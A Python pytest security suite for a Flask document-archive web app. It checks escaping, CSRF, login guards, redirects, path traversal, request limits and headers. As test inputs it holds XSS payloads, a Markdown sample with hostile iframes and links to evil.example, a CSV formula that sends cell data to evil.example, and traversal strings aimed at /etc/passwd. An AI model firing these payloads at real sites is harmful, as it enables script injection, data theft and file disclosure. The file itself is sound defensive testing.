"""Security (issue 8): escaping everywhere, CSRF, logins, path traversal, oversized requests, deep pages, headers.

Read-only questions go to one app over the session's index (``portal``); anything that writes gets its
own copy of the corpus and index through the fixtures of :mod:`tests.test_upload` (``app``, ``dirs``,
``archivist``), and checks that a refused request changed nothing.
"""

from __future__ import annotations

import base64
import io
import os
import re

import pytest
from bs4 import BeautifulSoup
from werkzeug.security import generate_password_hash

from app import create_app
from tests.app.archivists import LIMIT, PASSWORD, TOKEN, Archivist, api_upload, corpus_state, csrf_of
from tests.app.test_upload import GOOD
from tests.office_files import plan, plan_text

KL57 = "57-kl-tw-2023"
HOSTILE_NOTICE = "12-tb-stttt-kon-tum-2024"  # tests/corpus/thong_bao_ma_doc.txt: <script>, <img onerror>, <svg onload>
SCRIPT = '<script>alert("xss")</script>'
IMG = '"><img src=x onerror=alert(1)>'
SVG = "'><svg onload=alert(2)>"


_BAD_SCHEME = re.compile(r"^(?:javascript|vbscript|data):", re.I)


def assert_inert(page: str, *shown: str) -> BeautifulSoup:
    """Nothing in ``page`` runs: the one script is the app's own file, no event handler, no inline style,
    no ``javascript:`` link; and each of ``shown`` is there as text or as an attribute's value (escaped,
    not dropped)."""
    soup = BeautifulSoup(page, "html.parser")
    for script in soup.find_all("script"):
        assert script.get("src") == "/static/app.js" and not script.text.strip(), script
    for tag in soup.find_all(True):
        assert tag.name not in ("iframe", "object", "embed", "base"), tag
        for name, value in tag.attrs.items():
            assert not name.lower().startswith("on") and name.lower() != "style", tag
            if name in ("href", "src", "action", "formaction", "xlink:href"):
                assert not _BAD_SCHEME.match(re.sub(r"[\x00-\x20]", "", str(value))), tag
    text = soup.get_text()
    values = {str(v) for tag in soup.find_all(True) for v in tag.attrs.values()}
    for payload in shown:
        assert payload in text or payload in values, payload
    return soup


# --- XSS ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url,shown",
    [
        (f"/doc/{HOSTILE_NOTICE}", ['<script>alert("xss")</script>', "<img src=x onerror=alert(1)>"]),
        # Highlighted: the <mark>s must not unescape the text around them.
        (f"/doc/{HOSTILE_NOTICE}?q=mã+độc+alert+script+img", ['<script>alert("xss")</script>']),
        (f"/doc/{HOSTILE_NOTICE}?lang=en", ['"><svg onload=alert(2)>']),
        (f"/doc/{HOSTILE_NOTICE}/chain", []),  # shows the number, not the title
        (f"/doc/{HOSTILE_NOTICE}/source", ["<img src=x onerror=alert(1)>"]),
        ("/search?q=mã+độc", ['<script>alert("xss")</script>']),
        ("/search?q=alert+onerror+script", ["alert"]),
        ("/search?province=Kon+Tum", ['<script>alert("xss")</script>']),
        ("/search?q=Kon+Tum&lang=en", ['<script>alert("xss")</script>']),
    ],
)
def test_document_text_with_markup_is_shown_as_text(client, url, shown):
    response = client.get(url)
    assert response.status_code == 200
    assert_inert(response.get_data(as_text=True), *shown)


@pytest.mark.parametrize(
    "url,shown",
    [
        ("/search?q={p}", True),
        ("/search?q={p}&lang=en", True),
        ("/search?issuer={p}", True),  # the active filter's label
        ("/search?role=lead&agency={p}", True),
        ("/search?q=thong+tin&number={p}", True),
        ("/search?{p}=1", True),  # unknown parameter: its name is in the 400 message
        ("/search?q=thong+tin&lang={p}", False),  # not a language: dropped
        (f"/doc/{KL57}?q={{p}}", True),
        ("/doc/{p}", "unless-slash"),  # a 404 names the id; an id with a "/" is no address of a document at all
        ("/doc/{p}/chain", "unless-slash"),
        ("/so/{p}", True),
        ("/so/99-KL/TW{p}", True),  # a number the archive lacks: the 404 names it
        ("/archivist/login?next={p}", False),  # not a path of this site: replaced
        ("/missing?lang={p}", False),
    ],
)
@pytest.mark.parametrize("payload", [SCRIPT, IMG, SVG, "javascript:alert(3)"], ids=["script", "img", "svg", "js-url"])
def test_query_strings_are_escaped_on_every_page(client, url, shown, payload):
    from urllib.parse import quote

    response = client.get(url.format(p=quote(payload, safe="")))
    assert response.status_code < 500
    if shown == "unless-slash":
        shown = "/" not in payload
    assert_inert(response.get_data(as_text=True), *([payload] if shown else []))


# It implements 57-KL/TW (so it shows in that chain) and cites 98-CT/TW, which the archive lacks (so /missing lists it).
HOSTILE_PLAN = dict(
    plan(number=77, topic=f"phòng chống mã độc {SCRIPT}"),
    opening=(
        "Thực hiện Kết luận số 57-KL/TW, ngày 15/6/2023 của Bộ Chính trị và Chỉ thị số 98-CT/TW của Ban Bí thư, "
        "Ban Thường vụ Huyện uỷ Lộc Bình ban hành Kế hoạch như sau:"
    ),
)
HOSTILE_NAME = "<svg onload=alert(4)>k.txt"  # a legal file name: stored renamed, shown as given


def test_corrections_and_file_names_with_markup_are_escaped_on_every_page(archivist, app):
    """An archivist's typing (or a stolen session's) must not become script on any page, public or not."""
    response = archivist.upload((HOSTILE_NAME, plan_text(HOSTILE_PLAN).encode()))
    review = response.headers["Location"]
    pages = {"review": archivist.client.get(review).get_data(as_text=True)}
    # A refused correction shows the typed values again: still escaped.
    refused = archivist.confirm(review, **{"p1-issuer": IMG, "p1-date": f"31/02/2025{SVG}"})
    assert refused.status_code == 400
    pages["review-refused"] = refused.get_data(as_text=True)
    form = archivist.review_form(review)
    form.update(
        {
            "p1-issuer": IMG,
            "p1-title": SCRIPT,
            "p1-signer": SVG,
            "p1-signer_title": IMG,
            "p1-doc_type": SVG,
            "p1-province": SCRIPT,
            "p1-role-0-agency": IMG,
            "p1-role-0-anchor": '" onfocus="alert(5)',
        }
    )
    confirmed = archivist.client.post(review + "/confirm", data=form, follow_redirects=True)
    assert confirmed.status_code == 200
    pages["manage-with-flash"] = confirmed.get_data(as_text=True)
    doc_id = confirmed.request.path.rsplit("/", 1)[-1]
    assert doc_id.startswith("77-kh-hu")
    client = app.test_client()
    for name, url in [
        ("document", f"/doc/{doc_id}"),
        ("document-highlighted", f"/doc/{doc_id}?q=alert+img"),
        ("chain", f"/doc/{doc_id}/chain"),
        ("implemented", f"/doc/{KL57}"),
        ("chain-57", f"/doc/{KL57}/chain"),
        ("search", "/search?q=phong+chong+ma+doc"),
        ("search-facets", "/search?q=ke+hoach"),
        ("missing", "/missing"),
        ("source", f"/doc/{doc_id}/source"),
    ]:
        response = client.get(url)
        assert response.status_code == 200, name
        pages[name] = response.get_data(as_text=True)
    for name, url in [
        ("audit", "/archivist/audit"),
        ("home", "/archivist/"),
        ("manage", f"/archivist/doc/{doc_id}"),
        ("withdraw", f"/archivist/doc/{doc_id}/withdraw"),
    ]:
        pages[name] = archivist.client.get(url).get_data(as_text=True)
    assert set(pages) >= {"review", "audit", "manage", "document", "search"}
    for name, page in pages.items():
        assert "<script>alert" not in page and "<img src=x" not in page and "<svg onload" not in page, name
        assert_inert(page)
    # Escaped, not dropped: what was typed is what the pages show.
    assert_inert(pages["document"], IMG, SCRIPT, SVG)
    assert_inert(pages["chain-57"], IMG, SCRIPT)  # issuer, title
    assert_inert(pages["missing"], IMG, SVG)  # the citer's issuer and type
    assert_inert(pages["search-facets"], IMG, SCRIPT)  # the issuer and province facets
    assert_inert(pages["audit"], IMG, HOSTILE_NAME)
    assert_inert(pages["review"], HOSTILE_NAME)


def test_a_discarded_upload_with_markup_in_its_name_is_escaped_in_the_flash(archivist):
    review = archivist.upload((HOSTILE_NAME, GOOD)).headers["Location"]
    token = csrf_of(archivist.client.get(review))
    home = archivist.client.post(review + "/discard", data={"csrf_token": token}, follow_redirects=True)
    assert home.status_code == 200
    assert_inert(home.get_data(as_text=True), HOSTILE_NAME)


HOSTILE_MARKDOWN = """# HƯỚNG DẪN

## kiểm tra <b>mã độc</b> trên cổng thông tin

Căn cứ Kế hoạch số 06-KH/BCĐ của Ban Chỉ đạo Công tác thông tin đối ngoại tỉnh Lạng Sơn, Văn phòng hướng dẫn:

1. Khung: <iframe src="https://evil.example/"></iframe> <object data="x.swf"></object> <embed src="x.swf">
2. Liên kết: [một](javascript:alert(1)) [hai](JaVaScRiPt:alert(2)) [ba](data:text/html;base64,PHNjcmlwdD5hbGVydCgzKTwvc2NyaXB0Pg==) [bốn](vbscript:msgbox(4)) <a href="jav&#x09;ascript:alert(5)">năm</a>
3. Ảnh và kiểu: ![sáu](javascript:alert(6)) <img src="x" onerror="alert(7)"> <div style="background:url(javascript:alert(8))">tám</div>
4. Biểu mẫu: <form action="https://evil.example/"><input name="x"><button formaction="javascript:alert(9)">chín</button></form>
5. Khác: <svg><script>alert(10)</script></svg> <math><mi xlink:href="javascript:alert(11)">mười một</mi></math> <base href="https://evil.example/"> <meta http-equiv="refresh" content="0;url=https://evil.example/">
6. Giữ nguyên **đậm**, *nghiêng* và [liên kết thường](https://thuvienphapluat.vn/).

Nơi nhận:
- Lưu VP.
"""


def test_a_markdown_original_is_rendered_without_anything_that_runs(app):
    response = api_upload(app.test_client(), ("huong-dan-ma-doc.md", HOSTILE_MARKDOWN.encode()))
    assert response.status_code == 201
    doc_id = response.get_json()["documents"][0]["doc_id"]
    page = app.test_client().get(f"/doc/{doc_id}/source")
    assert page.status_code == 200
    soup = assert_inert(page.get_data(as_text=True))
    rendered = soup.find(class_="markdown")
    assert not rendered.find_all(["form", "input", "button", "meta", "link", "style"])
    assert "alert" not in "".join(str(img) for img in rendered.find_all("img"))
    # What Markdown is for still works.
    assert rendered.find("strong").text == "đậm" and rendered.find("em").text == "nghiêng"
    assert rendered.find("a", href="https://thuvienphapluat.vn/").get("rel") == ["noopener", "noreferrer", "nofollow"]


def test_csv_export_cells_cannot_run_as_formulas(archivist, app):
    review = archivist.upload(("k.txt", GOOD)).headers["Location"]
    archivist.confirm(
        review,
        **{"p1-issuer": '=HYPERLINK("https://evil.example/?"&A1,"Bấm")', "p1-title": "+1-1", "p1-signer": "@SUM(1+1)"},
    )
    rows = app.test_client().get("/export.csv?q=chuyen+doi+so").get_data(as_text=True)
    assert "'=HYPERLINK(" in rows and "'+1-1" in rows
    assert not re.search(r'(^|,)"?[=+@]', rows, re.M)


# --- CSRF ----------------------------------------------------------------------------------------------------------


def _url_for_rule(rule, token: str) -> str:
    values = {"doc_id": KL57, "token": token}
    return rule.build({arg: values.get(arg, "x") for arg in rule.arguments}, append_unknown=False)[1]


def _post_rules(flask_app):
    """Every POST address but the token API (which takes no cookie, so no cookie can be forged into it)."""
    return [r for r in flask_app.url_map.iter_rules() if "POST" in r.methods and r.endpoint != "api.upload_documents"]


def test_every_form_of_the_archivist_area_refuses_a_post_without_its_token(archivist, app, dirs):
    staged = archivist.upload(("k.txt", GOOD)).headers["Location"].rsplit("/", 1)[-1]
    before = corpus_state(dirs[0]), (dirs[0] / ".audit.jsonl").exists()
    stranger = Archivist(app.test_client())
    stranger.login()
    forged = csrf_of(stranger.client.get("/archivist/"))  # a real token, of another session
    checked = set()
    for rule in _post_rules(app):
        url = _url_for_rule(rule, staged)
        form = {"name": "lan", "password": PASSWORD, "reason": "x", "p1-issuer": "Đã sửa", "keep_both": "1"}
        for token in (None, "", "khong-phai-ma", forged):
            data = dict(form, **({"csrf_token": token} if token is not None else {}))
            response = archivist.client.post(url, data=data)
            assert response.status_code == 400, (rule.endpoint, token, response.status_code)
            assert "mã bảo vệ chống giả mạo (CSRF)" in response.get_data(as_text=True), rule.endpoint
        checked.add(rule.endpoint)
    assert checked >= {
        "auth.login",
        "auth.logout",
        "archivist.upload",
        "archivist.confirm",
        "archivist.discard",
        "archivist.save",
        "archivist.withdraw",
    }
    assert (corpus_state(dirs[0]), (dirs[0] / ".audit.jsonl").exists()) == before
    assert archivist.client.get(f"/archivist/uploads/{staged}").status_code == 200  # neither confirmed nor discarded
    assert archivist.client.get("/archivist/").status_code == 200  # nor logged out


# --- access without login -----------------------------------------------------------------------------------------

PUBLIC_ENDPOINTS = {"static", "auth.login", "auth.logout"}
PUBLIC_BLUEPRINTS = {"search", "documents", "chains"}


def _guarded_rules(flask_app):
    """Every address that is not explicitly public: a new one is guarded until someone says otherwise here."""
    return [
        r
        for r in flask_app.url_map.iter_rules()
        if r.endpoint not in PUBLIC_ENDPOINTS and r.endpoint.split(".")[0] not in PUBLIC_BLUEPRINTS
    ]


def _forged_session(app, dirs) -> str:
    """A session cookie of "lan", logged in for real, but on another installation (signed by its key)."""
    accounts = {"lan": app.extensions["archivist_accounts"]["lan"]}
    other = create_app(
        {
            "TESTING": True,
            "CORPUS_DIR": str(dirs[0]),
            "INDEX_DIR": str(dirs[1]),
            "SYNC_ON_START": False,
            "SECRET_KEY": "khoa-cua-may-khac",
            "ARCHIVISTS": accounts,
        }
    )
    person = Archivist(other.test_client())
    assert person.login().status_code == 302
    return person.client.get_cookie("session").value


@pytest.mark.parametrize("who", ["anonymous", "forged-session", "unknown-account"])
def test_every_archivist_address_refuses_whoever_is_not_logged_in(app, dirs, who):
    client = app.test_client()
    if who == "unknown-account":
        # A real session of an account that has since been removed from ARCHIVISTS.
        app.extensions["archivist_accounts"]["minh"] = generate_password_hash("mat-khau-cua-minh")
        assert Archivist(client).login("minh", "mat-khau-cua-minh").status_code == 302
        del app.extensions["archivist_accounts"]["minh"]
    before = corpus_state(dirs[0]), (dirs[0] / ".audit.jsonl").exists()
    token = csrf_of(client.get("/archivist/login"))  # a valid form token: the login is what must refuse
    refused_posts = {401}
    if who == "forged-session":
        client.set_cookie("session", _forged_session(app, dirs))
        refused_posts = {400, 401}  # the forged cookie cannot be read, the form token with it: CSRF refuses first
    rules = _guarded_rules(app)
    assert {r.endpoint for r in rules} >= {
        "archivist.home",
        "archivist.upload",
        "archivist.review",
        "archivist.review_json",
        "archivist.confirm",
        "archivist.discard",
        "archivist.find",
        "archivist.manage",
        "archivist.save",
        "archivist.withdraw_form",
        "archivist.withdraw",
        "archivist.audit_log",
        "archivist.audit_json",
        "api.upload_documents",
    }
    for rule in rules:
        url = _url_for_rule(rule, "a" * 32)
        for method in sorted(rule.methods & {"GET", "POST"}):
            if method == "GET":
                response = client.get(url)
            else:
                response = client.post(
                    url,
                    content_type="multipart/form-data",
                    data={
                        "csrf_token": token,
                        "files": [(io.BytesIO(GOOD), "k.txt")],
                        "file": [(io.BytesIO(GOOD), "k.txt")],
                        "p1-issuer": "Đã sửa",
                        "reason": "x",
                    },
                )
            where = (who, method, rule.rule)
            if method == "GET" and not url.endswith(".json"):
                assert response.status_code == 302, where
                assert response.headers["Location"].startswith("/archivist/login?next="), where
            elif method == "GET":
                assert response.status_code == 401 and "Cần đăng nhập" in response.get_json()["error"], where
            else:
                assert response.status_code in refused_posts, where
    assert (corpus_state(dirs[0]), (dirs[0] / ".audit.jsonl").exists()) == before


@pytest.mark.parametrize(
    "authorization",
    [
        None,
        "",
        "Bearer",
        "Bearer ",
        "Bearer ma-sai",
        f"Bearer {TOKEN}x",
        f"Bearer {TOKEN[:-1]}",
        f"Token {TOKEN}",
        "Basic " + base64.b64encode(f"lan:{PASSWORD}".encode()).decode(),
        f"{TOKEN}",
    ],
    ids=[
        "none",
        "empty",
        "scheme-only",
        "scheme-and-space",
        "wrong",
        "longer",
        "shorter",
        "other-scheme",
        "basic-login",
        "no-scheme",
    ],
)
def test_the_upload_api_refuses_anything_but_a_valid_token(app, dirs, archivist, authorization):
    before = corpus_state(dirs[0])
    # Logged in in the same browser: the API must not take the cookie, it is exempt from CSRF.
    headers = {"Authorization": authorization} if authorization is not None else {}
    response = archivist.client.post(
        "/documents.json",
        headers=headers,
        content_type="multipart/form-data",
        data={"file": [(io.BytesIO(GOOD), "k.txt")], "token": TOKEN},
    )
    assert response.status_code == 401 and response.headers["WWW-Authenticate"].startswith("Bearer")
    assert response.get_json()["ok"] is False
    assert corpus_state(dirs[0]) == before


@pytest.mark.parametrize(
    "target",
    [
        "https://evil.example/",
        "//evil.example/",
        "/\\evil.example/",
        "/\\/evil.example/",
        "\\\\evil.example/",
        "/\t/evil.example/",
        "/\n/evil.example/",
        "javascript:alert(1)",
        "http:evil.example",
        " //evil.example/",
    ],
)
def test_the_login_never_redirects_to_another_site(app, target):
    # Browsers read "/\\host" as "//host" and drop tabs and newlines from URLs.
    person = Archivist(app.test_client())
    token = csrf_of(person.client.get("/archivist/login"))
    response = person.client.post(
        "/archivist/login", data={"name": "lan", "password": PASSWORD, "csrf_token": token, "next": target}
    )
    assert response.status_code == 302 and response.headers["Location"] == "/archivist/"


# --- path traversal ----------------------------------------------------------------------------------------------

NAME_REFUSED = "Tên tệp không hợp lệ"
TRAVERSAL_NAMES = [
    # (name as sent, status, words of the message)
    ("../ke-hoach.txt", 400, NAME_REFUSED),
    ("../../../../tmp/ke-hoach.txt", 400, NAME_REFUSED),
    ("/etc/passwd", 400, NAME_REFUSED),
    ("/tmp/ke-hoach.txt", 400, NAME_REFUSED),
    ("..\\\\ke-hoach.txt", 400, NAME_REFUSED),  # escaped in the multipart header: the server gets ..\ke-hoach.txt
    ("C:\\\\Windows\\\\ke-hoach.txt", 400, NAME_REFUSED),
    ("..", 400, NAME_REFUSED),
    ("thu-muc/ke-hoach.txt", 400, NAME_REFUSED),
    ("ke-hoach.txt\x00.pdf", 400, NAME_REFUSED),
    ("\x00", 400, NAME_REFUSED),
    ("ke-hoach\x7f.txt", 400, NAME_REFUSED),
    (".", 415, "không được hỗ trợ"),  # no extension: refused by format
    ("ke\nhoach.txt", 400, "Không có tệp nào"),  # breaks the part's header: no file arrives at all
]


def _files_outside(dirs) -> list[str]:
    """Every file under the test's folder but its index (which a refused upload must not touch either)."""
    root = dirs[0].parent
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file() and dirs[1] not in p.parents)


@pytest.mark.parametrize("name,status,words", TRAVERSAL_NAMES)
def test_upload_names_with_paths_are_refused(archivist, app, dirs, name, status, words):
    before = _files_outside(dirs)
    response = api_upload(app.test_client(), (name, GOOD))
    assert response.status_code == status and words in response.get_json()["error"]
    response = archivist.upload((name, GOOD))
    assert response.status_code == status
    if words != "Không có tệp nào":  # the web form says "no file chosen" in its own words
        assert words in response.get_data(as_text=True)
    assert _files_outside(dirs) == before


@pytest.mark.parametrize(
    "url",
    [
        "/doc/..%2F..%2F..%2F..%2Fetc%2Fpasswd",
        "/doc/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "/doc/..%5C..%5Cetc%5Cpasswd",
        "/doc/%252e%252e%252fetc%252fpasswd",
        "/doc/....%2F%2F....%2F%2Fetc%2Fpasswd",
        "/doc/..",
        "/doc/.%2e",
        "/doc/..%2F..%2Fapp%2F__init__.py",
        "/doc/..%2Fcurrent%2Fmanifest",
        "/doc/%2Fetc%2Fpasswd",
        "/doc/%00",
        "/doc/..%2F..%2Fetc%2Fpasswd/source",
        "/doc/..%2F..%2Fetc%2Fpasswd.json",
        "/doc/..%2F..%2Fetc%2Fpasswd/chain.json",
        "/doc/57-kl-tw-2023%2F..%2F..%2Fetc%2Fpasswd/source",
        "/static/..%2F..%2Fapp%2F__init__.py",
        "/static/%2e%2e/%2e%2e/app/__init__.py",
        "/static/..%5C..%5Capp%5C__init__.py",
        "/so/..%2F..%2Fetc%2Fpasswd",
    ],
)
def test_addresses_that_climb_out_are_a_404_never_a_file(client, url):
    response = client.get(url)
    assert response.status_code == 404, response.status_code
    body = response.get_data(as_text=True)
    assert "root:" not in body and "def create_app" not in body and '"files"' not in body


def test_the_original_of_a_document_is_never_read_outside_the_corpus(app, dirs):
    # A corpus file replaced by a link to a file elsewhere (a tampered or badly copied corpus).
    secret = dirs[0].parent / "bi-mat.txt"
    secret.write_text("MẬT KHẨU CỦA MÁY CHỦ", encoding="utf-8")
    rel = app.test_client().get(f"/doc/{KL57}.json").get_json()["source"]["path"]
    original = dirs[0] / rel
    original.unlink()
    os.symlink(secret, original)
    response = app.test_client().get(f"/doc/{KL57}/source")
    assert response.status_code == 404 and "MẬT KHẨU" not in response.get_data(as_text=True)


# --- oversized requests -------------------------------------------------------------------------------------------

OVER = 4 * LIMIT + 1  # MAX_CONTENT_LENGTH of the test app, plus one byte


@pytest.mark.parametrize(
    "url,kind",
    [
        ("/archivist/upload", "file"),
        ("/documents.json", "api"),
        ("/archivist/login", "field"),
        (f"/archivist/doc/{KL57}", "field"),
        ("/archivist/logout", "field"),
    ],
)
def test_a_body_over_the_limit_is_a_413_in_vietnamese(archivist, dirs, url, kind):
    before = corpus_state(dirs[0])
    headers = {"Authorization": f"Bearer {TOKEN}"} if kind == "api" else {}
    if kind == "field":
        data = {"csrf_token": archivist.token, "p1-issuer": "x" * OVER}
    else:
        data = {
            "csrf_token": archivist.token,
            "file" if kind == "api" else "files": [(io.BytesIO(b"x" * OVER), "lon.txt")],
        }
    response = archivist.client.post(url, data=data, headers=headers, content_type="multipart/form-data")
    assert response.status_code == 413
    message = response.get_json()["error"] if kind == "api" else response.get_data(as_text=True)
    assert "Dữ liệu gửi lên quá lớn" in message and "tối đa 4 MB" in message
    assert_header_policy(response)
    assert corpus_state(dirs[0]) == before


def test_a_form_of_too_many_parts_is_refused_not_a_500(archivist, dirs):
    before = corpus_state(dirs[0])
    data = {f"p1-role-{i}-agency": "x" for i in range(1500)}
    data["csrf_token"] = archivist.token
    response = archivist.client.post(f"/archivist/doc/{KL57}", data=data, content_type="multipart/form-data")
    assert response.status_code == 413
    assert corpus_state(dirs[0]) == before


@pytest.mark.parametrize(
    "url,status",
    [
        ("/search?q=" + "thông tin " * 20_000, 200),  # cut to its first words, with a notice
        ("/search.json?q=" + "a" * 100_000, 200),
        ("/search?" + "&".join(f"issuer=co-quan-{i}" for i in range(3000)), 400),  # every link would carry them all
        ("/search.json?" + "a=1&" * 20_000, 400),
        ("/search?lang=" + "e" * 100_000, 200),
        ("/doc/" + "a" * 100_000, 404),
        ("/doc/" + "a" * 100_000 + ".json", 404),
        ("/so/" + "9" * 100_000, 404),
        ("/archivist/login?next=/" + "a" * 100_000, 200),
    ],
)
def test_very_long_addresses_are_answered_and_small(client, url, status):
    response = client.get(url)
    assert response.status_code == status
    # The page must not echo the address into every link: no amplification.
    assert len(response.data) < 1_000_000, len(response.data)


# --- deep pagination --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "page,status",
    [
        ("1000000000", 200),
        ("999999999999", 200),
        ("", 200),
        ("-1", 400),
        ("0", 400),
        ("abc", 400),
        ("1e9", 400),
        ("1.0", 400),
        ("+1", 400),
        (" 1", 400),
        ("9999999999999", 400),
        ("²", 400),
        ("١", 400),
        ("0x10", 400),
    ],
)
@pytest.mark.parametrize("path", ["/search", "/search.json", "/export.csv", "/export.json"])
def test_deep_or_malformed_pages_are_an_empty_page_or_a_400(client, path, page, status):
    response = client.get(path, query_string={"q": "thông tin", "page": page})
    assert response.status_code == status
    if status == 400:
        text = response.get_json()["error"] if path.endswith(".json") else response.get_data(as_text=True)
        assert "Số trang phải là số nguyên dương" in text
    elif path == "/search.json" and page:
        data = response.get_json()
        assert data["results"] == [] and data["page"] == int(page) and data["total"] > 0


# --- response headers --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "method,url,status",
    [
        ("GET", "/", 200),
        ("GET", "/search?q=thong+tin", 200),
        ("GET", "/search.json?q=thong+tin", 200),
        ("GET", f"/doc/{KL57}", 200),
        ("GET", f"/doc/{KL57}.json", 200),
        ("GET", f"/doc/{KL57}/source", 200),
        ("GET", "/export.csv", 200),
        ("GET", "/static/style.css", 200),
        ("GET", "/static/app.js", 200),
        ("GET", "/archivist/login", 200),
        ("GET", "/archivist/", 302),
        ("GET", "/nowhere", 404),
        ("GET", "/nowhere.json", 404),
        ("GET", "/search?page=abc", 400),
        ("GET", "/search.json?page=abc", 400),
        ("POST", "/search", 405),
        ("POST", "/archivist/login", 400),
        ("POST", "/documents.json", 401),
    ],
)
def test_every_response_carries_the_header_policy(client, method, url, status):
    response = client.open(url, method=method)
    assert response.status_code == status
    assert_header_policy(response)


def assert_header_policy(response) -> None:
    policy = dict(part.strip().split(" ", 1) for part in response.headers["Content-Security-Policy"].split(";"))
    assert policy["script-src"] == "'self'" and policy["default-src"] == "'self'"
    assert "unsafe-inline" not in response.headers["Content-Security-Policy"]
    assert "unsafe-eval" not in response.headers["Content-Security-Policy"]
    assert policy["frame-ancestors"] == "'none'" and policy["object-src"] == "'none'"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["X-Frame-Options"] == "DENY"


def test_a_server_error_is_a_plain_page_with_the_same_headers(dirs):
    flask_app = create_app(
        {"TESTING": True, "CORPUS_DIR": str(dirs[0]), "INDEX_DIR": str(dirs[1]), "SYNC_ON_START": False}
    )

    @flask_app.route("/hong")
    def broken():
        raise RuntimeError("secret detail /etc/passwd")

    response = flask_app.test_client().get("/hong")
    assert response.status_code == 500
    body = response.get_data(as_text=True)
    assert "Lỗi máy chủ" in body and "secret detail" not in body and "Traceback" not in body
    assert_header_policy(response)


def test_cookies_are_out_of_reach_of_scripts_and_other_sites(app):
    person = Archivist(app.test_client())
    response = person.login()
    session_cookie = next(c for c in response.headers.getlist("Set-Cookie") if c.startswith("session="))
    assert "HttpOnly" in session_cookie and "SameSite=Lax" in session_cookie and "Expires=" in session_cookie
    response = person.client.get("/search?lang=en")
    lang_cookie = next(c for c in response.headers.getlist("Set-Cookie") if c.startswith("lang="))
    assert "HttpOnly" in lang_cookie and "SameSite=Lax" in lang_cookie
